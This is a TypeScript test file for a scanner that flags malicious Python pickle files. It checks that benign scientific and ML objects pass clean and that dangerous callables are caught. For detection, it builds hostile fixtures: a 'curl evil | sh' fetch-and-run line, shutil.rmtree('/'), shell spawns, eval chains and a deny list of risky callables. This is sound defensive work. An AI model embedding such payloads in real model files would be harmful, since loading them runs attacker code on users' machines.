/**
 * Precision on real models (no issue on the benign shapes real libraries write) and regression of the
 * known-dangerous callables (always caught). The benign fixtures reproduce how CPython's pickler and
 * joblib serialise these objects: default object reduction is NEWOBJ (protocol 2+) or
 * copyreg._reconstructor (protocol 0/1) of the class, then BUILD of its state.
 */
import {expect} from 'chai'
import {classifyGlobal, reconstructionKind} from '../../src/lib/scanner/policy.js'
import {PW, payload, torchStateDict} from './fixtures.js'
import {joblibSparse, namedTuple, networkxGraph, reconstructed, type ReconPath, sparseMatrix} from './pickle-fixtures.js'
import {cleanTrees, expectClean, expectIssue, scanOne} from './pickle-support.js'

after(cleanTrees)

const PATHS: ReconPath[] = ['NEWOBJ', 'NEWOBJ_EX', '__newobj__', '__newobj_ex__', '_reconstructor', 'INST', 'OBJ', 'cython']

describe('pickle precision: argument-less reconstruction is clean, whatever the path', () => {
  for (const path of PATHS) {
    it(`an unknown library class rebuilt via ${path}, then BUILD of plain state`, async () => {
      const f = await scanOne('obj.pkl', reconstructed(path))
      expect(f.modelscan_status).to.equal('SCANNED')
      expectClean(f)
    })
  }

  it('the same object gets the same verdict on every path when its state carries Python code', async () => {
    const verdicts: string[] = []
    for (const path of PATHS) {
      const p = new PW(path === 'INST' || path === 'OBJ' ? 1 : 4)
      const base = reconstructed(path, 'chemlib.molecule', 'Molecule', false)
      p.raw(base.subarray(path === 'INST' || path === 'OBJ' ? 0 : 2, base.length - 1))
      p.emptyDict().mark().str('hook').str("import os; os.system('curl evil | sh')").setitems().build().stop()
      const f = await scanOne('obj.pkl', p.toBuffer())
      const i = expectIssue(f, 'PAIT-PKL-100', (x) => x.module === 'chemlib.molecule' && x.operator === 'Molecule', `${path}: `)
      expect(i.description, path).to.match(/Python code/)
      verdicts.push(i.threat ?? '')
    }
    expect(new Set(verdicts).size).to.equal(1)
  })

  it('namedtuple-style classes (NEWOBJ with plain fields, or _reconstructor with base tuple) are clean', async () => {
    expectClean(await scanOne('nt2.pkl', namedTuple(false)))
    expectClean(await scanOne('nt1.pkl', namedTuple(true)))
  })

  it('an unknown callable invoked with arguments is still suspicious; with code in them, malicious', async () => {
    const f = await scanOne('call.pkl', new PW(2).call('chemlib.io', 'load_structure', ['caffeine.mol']).stop().toBuffer())
    expectIssue(f, 'PAIT-PKL-101', (i) => i.module === 'chemlib.io' && /with|calls/.test(i.description))
    const g = await scanOne('call.pkl', new PW(2).call('chemlib.io', 'run_script', ["exec(open('/tmp/x').read())"]).stop().toBuffer())
    expectIssue(g, 'PAIT-PKL-100', (i) => i.module === 'chemlib.io')
  })

  it('an unknown module path that reaches process/network/import machinery is reported even when only reconstructed', async () => {
    const f = await scanOne('m.pkl', reconstructed('NEWOBJ', 'vendor.subprocess_tools.subprocess', 'Runner'))
    expectIssue(f, 'PAIT-PKL-101', (i) => i.module === 'vendor.subprocess_tools.subprocess' && /subprocess/.test(i.description))
    const g = await scanOne('m.pkl', new PW(2).call('vendor.os.helpers', 'run', ['id']).stop().toBuffer())
    expectIssue(g, 'PAIT-PKL-100', (i) => i.module === 'vendor.os.helpers')
  })
})

describe('pickle precision: known scientific/ML classes judged by what they are', () => {
  const sparse: Array<[string, string]> = [
    ['scipy.sparse._coo', 'coo_matrix'], ['scipy.sparse._csc', 'csc_matrix'], ['scipy.sparse._csr', 'csr_matrix'], ['scipy.sparse._bsr', 'bsr_matrix'],
    ['scipy.sparse._dia', 'dia_matrix'], ['scipy.sparse._dok', 'dok_matrix'], ['scipy.sparse._lil', 'lil_matrix'], ['scipy.sparse.coo', 'coo_matrix'],
    ['scipy.sparse.csr', 'csr_matrix'], ['scipy.sparse._arrays', 'coo_array'],
  ]
  for (const proto of [0, 1, 2, 4, 5]) {
    it(`scipy.sparse matrices pickled with protocol ${proto} are clean`, async () => {
      for (const [m, c] of sparse) expectClean(await scanOne('sparse.pkl', sparseMatrix(proto, m, c)), `${m}.${c}: `)
    })
  }

  it('a sparse matrix in a joblib dump (arrays as NumpyArrayWrapper + raw bytes) is clean', async () => {
    const f = await scanOne('model.joblib', joblibSparse())
    expect(f.formats).to.deep.equal(['joblib'])
    expect(f.modelscan_status).to.equal('SCANNED')
    expectClean(f)
  })

  it('a networkx DiGraph (shared adjacency dicts) is clean, protocols 2 and 4', async () => {
    expectClean(await scanOne('g.pkl', networkxGraph(4)))
    expectClean(await scanOne('g2.pkl', networkxGraph(2)))
  })

  it('torch, sklearn, pandas and numpy reconstruction helpers and classes are clean', async () => {
    expectClean(await scanOne('sd.pkl', torchStateDict(4, 3)))
    const p = new PW(4)
    p.emptyList().mark()
    p.imp('torch.nn.modules.linear', 'Linear').emptyTuple().op(0x81).emptyDict().mark().str('training').op(0x88).setitems().build()
    p.imp('sklearn.neighbors._kd_tree', 'newObj').mark().imp('sklearn.neighbors._kd_tree', 'KDTree').tuple().reduce().emptyDict().build()
    p.imp('sklearn.tree._tree', 'Tree').mark().int(4).imp('numpy', 'ndarray').int(1).tuple().reduce()
    p.imp('pandas.core.indexes.base', '_new_Index').mark().imp('pandas.core.indexes.range', 'RangeIndex').emptyDict().tuple().reduce()
    // an object array as NumPy before 1.0 pickled it (numpy's own test data: py2-np0-objarr.npy)
    p.imp('numpy.core._internal', '_reconstruct').mark().imp('numpy', 'ndarray').mark().int(0).tuple().bytes(Buffer.from('b')).tuple().reduce()
      .mark().int(1).mark().int(2).tuple().imp('numpy', 'dtype').mark().str('O8').int(0).int(1).tuple().reduce().op(0x89).emptyList().tuple().build()
    p.imp('numpy.core.multiarray', 'scalar').mark().imp('numpy', 'dtype').mark().str('f8').op(0x89).op(0x88).tuple().reduce().bytes(Buffer.alloc(8)).tuple().reduce()
    p.imp('collections', 'defaultdict').mark().imp('builtins', 'list').tuple().reduce()
    // stdlib values as Python 3 pickles them: a range under its Python 2 name (protocols 0-2), array.array (protocols 3+)
    p.global('__builtin__', 'xrange').mark().int(0).int(3).int(1).tuple().reduce()
    p.imp('array', '_array_reconstructor').mark().imp('array', 'array').str('f').int(14).bytes(Buffer.alloc(4)).tuple().reduce()
    p.imp('pandas._libs.arrays', '__pyx_unpickle_NDArrayBacked').mark().imp('pandas.core.arrays.datetimes', 'DatetimeArray').int(0x1234).none().tuple().reduce()
    p.appends()
    expectClean(await scanOne('mixed.pkl', p.stop().toBuffer()))
  })

  it('policy: lowercase data classes are safe, functions of the same packages are not safe by default', () => {
    expect(classifyGlobal('scipy.sparse._coo', 'coo_matrix').tier).to.equal('safe')
    expect(classifyGlobal('scipy.sparse.coo', 'coo_matrix').tier).to.equal('safe')
    expect(classifyGlobal('networkx.classes.digraph', 'DiGraph').tier).to.equal('safe')
    expect(classifyGlobal('scipy.sparse', 'load_npz').tier).to.equal('unknown')
    expect(classifyGlobal('pandas', 'read_pickle').tier).to.equal('deny')
    expect(classifyGlobal('pandas', 'HDFStore').tier).to.equal('deny')
    expect(classifyGlobal('tensorflow.io.gfile', 'GFile').tier).to.equal('deny')
    expect(classifyGlobal('__builtin__', 'xrange').tier).to.equal('safe')
    expect(classifyGlobal('__builtin__', 'raw_input').tier).to.not.equal('safe')
    expect(classifyGlobal('__builtin__', 'reduce')).to.include({tier: 'deny', severity: 'critical'}) // functools.reduce, as pickle maps it
    expect(classifyGlobal('array', '_array_reconstructor').tier).to.equal('safe')
    expect(reconstructionKind('copy_reg', '_reconstructor')).to.equal('reconstructor')
    expect(reconstructionKind('somepkg._cy', '__pyx_unpickle_Thing')).to.equal('cython')
    expect(reconstructionKind('somepkg', 'make')).to.equal(null)
  })
})

describe('pickle precision: known-dangerous callables stay caught', () => {
  const dangerous: Array<[string, string, Array<string | number>]> = [
    ['os', 'system', ['id']], ['posix', 'system', ['id']], ['nt', 'system', ['id']], ['os', 'popen', ['id']], ['os', 'execv', ['/bin/sh']],
    ['subprocess', 'Popen', ['id']], ['subprocess', 'check_output', ['id']], ['builtins', 'eval', ['1']], ['builtins', 'exec', ['x=1']],
    ['__builtin__', 'eval', ['1']], ['builtins', 'getattr', ['x']], ['builtins', '__import__', ['os']], ['builtins', 'compile', ['x', 'f', 'exec']],
    ['runpy', 'run_path', ['/tmp/x.py']], ['runpy', 'run_module', ['x']], ['importlib', 'import_module', ['os']], ['pickle', 'loads', ['x']],
    ['_pickle', 'loads', ['x']], ['torch', 'load', ['x.pt']], ['torch.serialization', 'load', ['x.pt']], ['torch.hub', 'load', ['a/b', 'm']],
    ['numpy', 'load', ['x.npy']], ['numpy.lib.npyio', 'load', ['x.npy']], ['webbrowser', 'open', ['http://x']], ['socket', 'socket', [2, 1]],
    ['socket', 'create_connection', ['x']], ['shutil', 'rmtree', ['/']], ['pty', 'spawn', ['/bin/sh']], ['ctypes', 'CDLL', ['libc.so.6']],
    ['numpy.ctypeslib', 'load_library', ['x', '.']], ['torch.utils.cpp_extension', 'load', ['x']], ['torch.ops', 'load_library', ['x.so']],
    ['marshal', 'loads', ['x']], ['code', 'InteractiveInterpreter.runcode', ['x']], ['pandas', 'read_pickle', ['x']],
    ['keras.models', 'load_model', ['x.h5']], ['joblib', 'load', ['x']], ['dill', 'loads', ['x']], ['cloudpickle', 'loads', ['x']],
  ]
  for (const [m, n, args] of dangerous) {
    it(`${m}.${n}`, async () => {
      const f = await scanOne('bad.pkl', new PW(4).call(m, n, args).stop().toBuffer())
      // importing joblib makes the stream a joblib dump (same rule, joblib's code)
      expectIssue(f, m.startsWith('joblib') ? 'PAIT-JOBLIB-100' : 'PAIT-PKL-100', (i) => i.module === m && i.operator === n)
    })
  }

  it('getattr chains and nested pickle.loads payloads', async () => {
    const chain = new PW(2).global('builtins', 'getattr').mark().global('builtins', 'globals').emptyTuple().reduce().str('eval').tuple().reduce()
      .mark().str('1+1').tuple().reduce().stop().toBuffer()
    const f = await scanOne('chain.pkl', chain)
    expectIssue(f, 'PAIT-PKL-100', (i) => i.operator === 'getattr')
    expectIssue(f, 'PAIT-PKL-100', (i) => i.module === '<computed>')
    const nested = new PW(3).global('pickle', 'loads').mark().bytes(payload(2, 'subprocess', 'call', ['id'])).tuple().reduce().stop().toBuffer()
    const g = await scanOne('nested.pkl', nested)
    expectIssue(g, 'PAIT-PKL-100', (i) => i.module === 'pickle' && i.operator === 'loads')
    expectIssue(g, 'PAIT-PKL-100', (i) => i.module === 'subprocess' && /:bytes@\d+$/.test(i.source ?? ''))
  })
})
